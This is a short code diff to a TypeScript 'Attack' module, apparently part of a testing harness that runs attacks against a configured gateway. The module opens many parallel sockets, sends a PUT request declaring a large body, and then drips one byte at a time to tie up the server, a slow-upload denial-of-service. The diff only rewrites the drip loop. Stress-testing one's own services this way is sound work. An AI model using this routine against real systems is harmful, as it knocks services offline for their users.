@@ -1,4 +1,4 @@
-import { setInterval } from 'node:timers/promises'
+import { setTimeout as sleep } from 'node:timers/promises'
 import type { Attack } from '../attack.ts'
 import { repeat } from '../support/repeat.ts'
 import { openSocket } from '../support/socket.ts'
@@ -13,9 +13,9 @@ export const attack: Attack = {
     return await repeat({ signal, parallel: UPLOADS, most: 1_000 }, async () => {
       const socket = await openSocket(target.gatewayUrl, context)
       socket.write('PUT /v1/blobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n')
-      for await (const _ of setInterval(DRIP_MS, undefined, { signal })) {
-        if (!socket.writable) return
+      while (socket.writable && !signal.aborted) {
         socket.write('x')
+        await sleep(DRIP_MS, undefined, { signal }).catch(() => undefined)
       }
     })
   },
